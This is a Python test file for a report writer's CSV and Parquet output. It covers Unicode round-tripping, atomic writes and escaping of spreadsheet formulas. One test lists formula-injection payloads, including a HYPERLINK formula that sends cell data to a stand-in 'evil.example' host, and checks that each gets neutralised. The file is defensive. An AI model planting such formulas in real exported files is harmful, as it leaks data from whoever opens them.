from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from detector.io import atomic_writer
from detector.report import writer
from detector.report.writer import write_csv

TRICKY = ['Путин, "цитата"', "美国生物实验室，引号“”", "line one\nline two", "emoji 🚩, comma", ""]


def test_csv_round_trips_tricky_text_through_pandas_and_csv(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"id": [f"id{i}" for i in range(len(TRICKY))], "title": TRICKY,
         "published_at": pd.Timestamp("2022-03-08T10:00Z")}
    )  # fmt: skip
    path = tmp_path / "x.csv"
    write_csv(frame, path, ["id", "title", "published_at"])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["title"].tolist() == TRICKY
    assert set(back["published_at"]) == {"2022-03-08T10:00:00Z"}
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["title"] for r in rows] == TRICKY


def test_failed_write_leaves_the_old_file_and_no_temp(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("old")

    def killed_mid_write() -> None:
        with atomic_writer(path) as handle:
            handle.write("half a report")
            raise RuntimeError("killed mid-write")

    with pytest.raises(RuntimeError):
        killed_mid_write()
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_text_cells_that_a_spreadsheet_would_run_get_an_apostrophe_and_the_twin_keeps_them(
    tmp_path: Path,
) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    plain = ["Путин", "'already quoted", " =1 (a space first)", "1+1", ""]
    frame = pd.DataFrame(
        {"id": ["-17", "=id", *[f"id{i}" for i in range(len(hostile) + len(plain) - 2)]],
         "title": hostile + plain, "lag_hours": -3.5, "passage_start": -1, "rescued": True,
         "published_at": pd.Timestamp("2022-03-08T10:00:00.123456Z")}
    )  # fmt: skip
    columns = ["id", "title", "lag_hours", "passage_start", "rescued", "published_at"]
    twin = writer.write_table(frame, tmp_path / "x.csv", columns)
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["title"] for r in rows] == ["'" + h for h in hostile] + plain
    assert [r["id"] for r in rows[:2]] == ["'-17", "'=id"]
    assert {(r["lag_hours"], r["passage_start"], r["rescued"]) for r in rows} == {("-3.5", "-1", "True")}
    assert twin == tmp_path / "x.parquet"
    back = pd.read_parquet(twin)
    assert back["title"].tolist() == hostile + plain
    assert back["id"].tolist() == frame["id"].tolist()
    assert back["lag_hours"].tolist() == [-3.5] * len(frame)
    assert back["published_at"].iloc[0] == pd.Timestamp("2022-03-08T10:00:00.123456Z")
